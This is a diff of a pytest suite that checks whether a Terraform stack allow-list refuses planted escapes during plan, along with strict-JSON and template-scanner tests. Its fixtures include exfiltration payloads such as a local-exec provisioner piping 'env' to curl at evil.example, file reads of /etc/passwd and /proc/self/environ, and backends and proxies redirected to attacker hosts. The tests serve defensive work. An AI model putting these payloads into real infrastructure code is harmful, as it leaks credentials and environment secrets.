@@ -1,91 +1,278 @@
-"""`check-stacks`: a pull request's stacks are refused before any plan when they use anything the compiler does not
-emit (each case below is a way to run code or read data during `terraform plan`, tried and refused)."""
+"""The stack allow-list on documents: what the compiler emits passes; each way to run code, read data or send
+credentials elsewhere during `terraform plan`, planted into a real stack of the example, is refused by name.
+(tests/delivery/test_planted_pull_requests.py plants the same and more into a pull request's git tree.)"""
 
+import copy
 import json
-import shutil
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
-from modules.review.allowlist import DATA_SOURCES, RESOURCE_TYPES, problems
+from modules.registry.validate import load_registry
+from modules.review.allowlist import DATA_SOURCES, FUNCTIONS, RESOURCE_TYPES, problems
+from modules.review.hclscan import Found, Unscannable, scan_document, scan_template
+from modules.review.stackshape import PROVIDER_VERSION, REQUIRED_PROVIDERS, expect
+from modules.review.strictjson import StrictJsonError, loads, shown
+from modules.stacks import plan
+from tests.helpers import EXAMPLE, TESTS
+
+ROOT = TESTS.parent
+MODE = '${var.access_mode == "plan" ? "northwind-plan" : "OrganizationAccountAccessRole"}'
 
 
-def _emitted(out):
-    docs = [json.loads(p.read_text()) for p in (out / "stacks").glob("*/cdk.tf.json")]
-    return ({t for d in docs for t in d.get("resource", {})}, {t for d in docs for t in d.get("data", {})}, docs)
+@pytest.fixture(scope="module")
+def example_expect():
+    reg = load_registry(EXAMPLE)
+    return expect(plan(reg), tuple(reg.organization.allowed_regions))
 
 
-def test_the_example_and_every_valid_fixture_pass(example_out, synthesized_fixture):
+def _docs(out):
+    return {p.parent.name: json.loads(p.read_text()) for p in (out / "stacks").glob("*/cdk.tf.json")}
+
+
+def test_the_example_and_every_valid_fixture_pass_and_use_exactly_the_listed_types_and_functions(
+    example_out, synthesized_fixture, example_expect
+):
     from tests.synth.test_safety import VALID
 
-    for out in [example_out] + [synthesized_fixture(case)[1] for case in VALID]:
-        resources, data, docs = _emitted(out)
-        assert resources <= RESOURCE_TYPES, f"add to modules/review/allowlist.py: {sorted(resources - RESOURCE_TYPES)}"
-        assert data <= DATA_SOURCES, sorted(data - DATA_SOURCES)
-        for doc in docs:
-            assert problems("s", doc) == []
+    resources, data, calls = set(), set(), Found()
+    cases = [(EXAMPLE, example_out)] + [synthesized_fixture(case) for case in VALID]
+    for registry, out in cases:
+        reg = load_registry(registry)
+        e = expect(plan(reg), tuple(reg.organization.allowed_regions))
+        for name, doc in _docs(out).items():
+            assert problems(name, doc, e) == [], (registry, name)
+            resources |= set(doc.get("resource", {}))
+            data |= set(doc.get("data", {}))
+            scan_document(doc, calls)
+            assert doc["terraform"]["required_providers"] == REQUIRED_PROVIDERS, f"the provider is no longer {PROVIDER_VERSION}"
+    assert resources <= RESOURCE_TYPES, f"add to modules/review/allowlist.py: {sorted(resources - RESOURCE_TYPES)}"
+    assert data <= DATA_SOURCES, sorted(data - DATA_SOURCES)
+    # The function list is exactly what the compiler writes: a new function fails here until the list knows it, and
+    # a function the compiler stopped writing leaves the list (it stays short).
+    assert calls.calls == FUNCTIONS, f"update allowlist.FUNCTIONS to {sorted(calls.calls)}"
 
 
+def _set(path, value):
+    def plant(d):
+        node = d
+        for key in path[:-1]:
+            node = node[key]
+        node[path[-1]] = value
+
+    return plant
+
+
+DEV = "pricing-dev"
+DEV_ID = '${data.terraform_remote_state.organization.outputs.account_ids["pricing-dev"]}'
 PLANTED = [
+    ("http data source", lambda d: d["data"].update({"http": {"x": {"url": "https://evil.example"}}}), 'data source "http" is not allowed'),
     (
-        "http data source",
-        lambda d: d.setdefault("data", {}).update({"http": {"x": {"url": "https://evil.example"}}}),
-        "s: data source `http` is not allowed",
+        "external data source",
+        lambda d: d["data"].update({"external": {"x": {"program": ["sh", "-c", "env"]}}}),
+        'data source "external" is not allowed',
     ),
     (
         "external provider",
         lambda d: d["terraform"]["required_providers"].update({"external": {"source": "hashicorp/external"}}),
-        "s: required provider `external` (hashicorp/external) is not allowed (only hashicorp/aws)",
+        'terraform.required_providers."external": not allowed here',
     ),
     (
         "aws from another source",
-        lambda d: d["terraform"]["required_providers"].update({"aws": {"source": "evil/aws", "version": "1.0.0"}}),
-        "s: required provider `aws` (evil/aws) is not allowed (only hashicorp/aws)",
+        lambda d: d["terraform"]["required_providers"]["aws"].update({"source": "evil/aws"}),
+        'terraform.required_providers.aws.source: "evil/aws" where the compiler writes "hashicorp/aws"',
     ),
-    ("a second provider block", lambda d: d["provider"].update({"null": [{}]}), "s: provider `null` is not allowed"),
-    ("null_resource", lambda d: d["resource"].update({"null_resource": {"x": {}}}), "s: resource type `null_resource` is not allowed"),
+    ("a second provider", lambda d: d["provider"].update({"null": [{}]}), "provider: only `aws`, as a list of configurations"),
+    ("null_resource", lambda d: d["resource"].update({"null_resource": {"x": {}}}), 'resource type "null_resource" is not allowed'),
     (
         "local-exec provisioner",
         lambda d: d["resource"]["aws_vpc"]["vpc"].update({"provisioner": [{"local-exec": {"command": "env | curl -d @- evil.example"}}]}),
-        "s: resource aws_vpc.vpc: `provisioner` is not allowed",
+        "resource aws_vpc.vpc: `provisioner` is not allowed",
     ),
+    ("a module", lambda d: d.update({"module": {"m": {"source": "git::evil"}}}), 'top-level block "module" is not allowed'),
+    ("a check block", lambda d: d.update({"check": {"c": {}}}), 'top-level block "check" is not allowed'),
+    ("locals", lambda d: d.update({"locals": {"x": '${file("/etc/passwd")}'}}), 'top-level block "locals" is not allowed'),
     (
-        "a module",
-        lambda d: d.update({"module": {"m": {"source": "git::https://evil.example/m"}}}),
-        "s: top-level block `module` is not allowed",
-    ),
-    ("a check block", lambda d: d.update({"check": {"c": {}}}), "s: top-level block `check` is not allowed"),
-    (
-        "another backend",
+        "http backend",
         lambda d: d["terraform"].update({"backend": {"http": {"address": "https://evil.example"}}}),
-        "s: backend `http` is not allowed (only s3)",
-    ),
-    ("terraform cloud", lambda d: d["terraform"].update({"cloud": {"organization": "evil"}}), "s: terraform.cloud is not allowed"),
-    ("an unknown variable", lambda d: d.update({"variable": {"token": {}}}), "s: variable `token` is not allowed"),
-    (
-        "an older terraform",
-        lambda d: d["terraform"].update({"required_version": ">=0.12"}),
-        's: terraform.required_version is ">=0.12" (only ">=1.10.0": S3-native state locking needs Terraform 1.10)',
+        'terraform.backend."http": not allowed here',
     ),
     (
-        "no required_version",
-        lambda d: d["terraform"].pop("required_version"),
-        's: terraform.required_version is null (only ">=1.10.0": S3-native state locking needs Terraform 1.10)',
+        "another state bucket",
+        _set(["terraform", "backend", "s3", "bucket"], "evil-bucket"),
+        'terraform.backend.s3.bucket: "evil-bucket" where the compiler writes "northwind-terraform-state"',
     ),
+    (
+        "backend endpoint",
+        lambda d: d["terraform"]["backend"]["s3"].update({"endpoints": {"s3": "https://evil.example"}}),
+        'terraform.backend.s3."endpoints": not allowed here',
+    ),
+    (
+        "another stack's state key",
+        _set(["terraform", "backend", "s3", "key"], "organization/terraform.tfstate"),
+        "terraform.backend.s3.key:",
+    ),
+    ("terraform cloud", lambda d: d["terraform"].update({"cloud": {"organization": "evil"}}), 'terraform."cloud": not allowed here'),
+    (
+        "an older Terraform",
+        _set(["terraform", "required_version"], ">=0.12"),
+        'terraform.required_version: ">=0.12" where the compiler writes ">=1.10.0"',
+    ),
+    ("no required_version", lambda d: d["terraform"].pop("required_version"), "terraform.required_version: missing"),
+    ("an unknown variable", lambda d: d["variable"].update({"token": {}}), 'variable "token": not allowed (only access_mode)'),
+    (
+        "a role name passed in again",
+        _set(["variable", "access_mode", "default"], "OrganizationAccountAccessRole"),
+        "variable access_mode: not the shape the compiler writes",
+    ),
+    (
+        "provider endpoints",
+        lambda d: d["provider"]["aws"][0].update({"endpoints": [{"sts": "https://evil.example"}]}),
+        'provider.aws[0]."endpoints": not allowed',
+    ),
+    (
+        "provider proxy, insecure",
+        lambda d: d["provider"]["aws"][0].update({"http_proxy": "http://evil.example:3128", "insecure": True}),
+        'provider.aws[0]."http_proxy": not allowed',
+    ),
+    (
+        "provider custom CA and credentials file",
+        lambda d: d["provider"]["aws"][0].update({"custom_ca_bundle": "/tmp/ca.pem", "shared_credentials_files": ["/tmp/c"]}),
+        'provider.aws[0]."custom_ca_bundle": not allowed',
+    ),
+    (
+        "assume_role into another account",
+        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::999999999999:role/{MODE}"),
+        "provider.aws[0].assume_role.role_arn:",
+    ),
+    (
+        "assume_role with a fixed role",
+        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::{DEV_ID}:role/Admin"),
+        "is not an account's role the compiler assumes",
+    ),
+    (
+        "assume_role with extra keys",
+        lambda d: d["provider"]["aws"][0]["assume_role"][0].update({"external_id": "x", "duration": "12h"}),
+        "provider.aws[0].assume_role: exactly one {role_arn, session_name}",
+    ),
+    (
+        "web identity",
+        lambda d: d["provider"]["aws"][0].update({"assume_role_with_web_identity": [{"role_arn": "x", "web_identity_token_file": "/t"}]}),
+        'provider.aws[0]."assume_role_with_web_identity": not allowed',
+    ),
+    ("an unknown region", _set(["provider", "aws", 0, "region"], "us-east-1"), 'provider.aws[0].region: "us-east-1" is not a region'),
+    (
+        "remote state over http",
+        lambda d: d["data"]["terraform_remote_state"].update(
+            {"identity": {"backend": "http", "config": {"address": "https://evil.example"}}}
+        ),
+        'data terraform_remote_state.identity.backend: "http" where the compiler writes "s3"',
+    ),
+    (
+        "remote state of no stack",
+        lambda d: d["data"]["terraform_remote_state"].update({"x": {"backend": "s3", "config": {}}}),
+        'data terraform_remote_state."x": not another stack of the registry',
+    ),
+    (
+        "output of the environment, base64",
+        lambda d: d.setdefault("output", {}).update({"x": {"value": '${base64encode(file("/proc/self/environ"))}'}}),
+        'an expression calls "base64encode"()',
+    ),
+    (
+        "a call hidden in a nested template",
+        _set(["resource", "aws_vpc", "vpc", "cidr_block"], '${"${file("/proc/self/environ")}"}'),
+        'an expression calls "file"()',
+    ),
+    (
+        "a provider-defined function",
+        _set(["resource", "aws_vpc", "vpc", "cidr_block"], '${provider::aws::arn_parse("x").region}'),
+        'an expression calls "provider::aws::arn_parse"()',
+    ),
+    ("a directive", _set(["resource", "aws_vpc", "vpc", "cidr_block"], "%{ if true }x%{ endif }"), "a template directive"),
+    ("a heredoc", _set(["resource", "aws_vpc", "vpc", "cidr_block"], "${<<EOT\nx\nEOT\n}"), "a comment or heredoc"),
+    ("an array where blocks go", lambda d: d.update({"data": [{"external": {"x": {}}}]}), "data: a JSON list where the compiler"),
+    (
+        "an array where one block goes",
+        _set(["resource", "aws_vpc", "vpc"], [{"cidr_block": "10.0.0.0/16"}, {"provisioner": []}]),
+        "resource aws_vpc.vpc: a JSON list where the compiler writes one block body",
+    ),
+    ("a removed block with a provisioner", lambda d: d.update({"removed": [{"from": "x", "provisioner": []}]}), "removed[0]: only"),
+    ("an import of another kind", lambda d: d.update({"import": [{"id": "x", "to": "aws_vpc.vpc", "for_each": "x"}]}), "import[0]: only"),
 ]
 
 
 @pytest.mark.parametrize("what, plant, message", PLANTED, ids=[p[0] for p in PLANTED])
-def test_planted_escapes_are_refused(example_out, what, plant, message):
-    doc = json.loads((example_out / "stacks" / "pricing-dev" / "cdk.tf.json").read_text())
-    plant(doc)
-    assert message in problems("s", doc)
+def test_planted_escapes_are_refused(example_out, example_expect, what, plant, message):
+    doc = json.loads((example_out / "stacks" / DEV / "cdk.tf.json").read_text())
+    assert problems(DEV, doc, example_expect) == []
+    planted = copy.deepcopy(doc)
+    plant(planted)
+    found = problems(DEV, planted, example_expect)
+    assert any(message in line for line in found), found
+    assert all(line.startswith(f'"{DEV}": ') for line in found)
 
 
-def test_the_command_refuses_and_plans_nothing(example_out, tmp_path, run_cli):
-    stacks = tmp_path / "stacks"
-    shutil.copytree(example_out / "stacks", stacks)
-    code, out, _ = run_cli(["check-stacks", str(stacks)])
-    assert code == 0 and out == "check-stacks: 20 stacks use only allowed providers, data sources and resource types\n"
-    (stacks / "pricing-dev" / "evil.tf").write_text('data "external" "x" { program = ["sh"] }\n')
-    code, _, err = run_cli(["check-stacks", str(stacks)])
-    assert code == 1 and "pricing-dev: file `evil.tf` would be read by Terraform and is not allowed" in err
+def test_strict_json_refuses_what_terraform_and_python_read_differently():
+    with pytest.raises(StrictJsonError, match='repeats the key "data"'):
+        loads(b'{"data": {}, "data": {"external": {}}}')
+    with pytest.raises(StrictJsonError, match="NaN is not JSON"):
+        loads(b'{"x": NaN}')
+    with pytest.raises(StrictJsonError, match="not UTF-8"):
+        loads(b'{"x": "\xff"}')
+    with pytest.raises(StrictJsonError, match="not valid JSON"):
+        loads(b'{"x": ')
+    with pytest.raises(StrictJsonError, match="nested too deeply"):
+        loads(b"[" * 100000 + b"]" * 100000)
+
+
+def test_the_scan_reads_escapes_as_terraform_does():
+    found = Found()
+    scan_template('$${file(x)} %%{ if } ${contains(["a("], var.access_mode)}', found)
+    assert found.calls == {"contains"}, "escaped templates are text; a call inside a quoted string is not a call"
+    for hidden in ('${"}" == file("x")}', "${ tolist (x)}", '${x ? "a" : lower("B")}', "${{a = upper(b)}}"):
+        found = Found()
+        scan_template(hidden, found)
+        assert found.calls - {"contains"}, hidden
+    for unscannable in ("${x", '${"x', "${x # c\n}", "${é(x)}"):
+        with pytest.raises(Unscannable):
+            scan_template(unscannable, Found())
+
+
+def test_names_from_a_pull_request_are_shown_quoted_on_one_line():
+    assert shown("x` <!--\n::error::y") == '"x\\u0060 <!--\\n::error::y"'
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
+    max_leaves=8,
+)
+
+
+def _paths(value, path=()):
+    yield path
+    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, item in items:
+        yield from _paths(item, (*path, key))
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_any_value_anywhere_in_a_stack_is_refused_or_accepted_never_crashed_on(example_out, example_expect, data):
+    """A pull request controls every byte: whatever JSON replaces whatever node, the check answers with lines."""
+    doc = json.loads((example_out / "stacks" / DEV / "cdk.tf.json").read_text())
+    paths = [p for p in _paths(doc) if p and len(p) <= 6]
+    path = data.draw(st.sampled_from(paths))
+    _set(list(path), data.draw(JSON))(doc)
+    found = problems(DEV, doc, example_expect)
+    assert isinstance(found, list) and all(isinstance(line, str) for line in found)
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.text(alphabet=st.sampled_from('${}%"\\()#/<a-_:.é ?\n'), max_size=40))
+def test_the_scan_answers_or_refuses_any_template(template):
+    try:
+        scan_template(template, Found())
+    except Unscannable:
+        pass
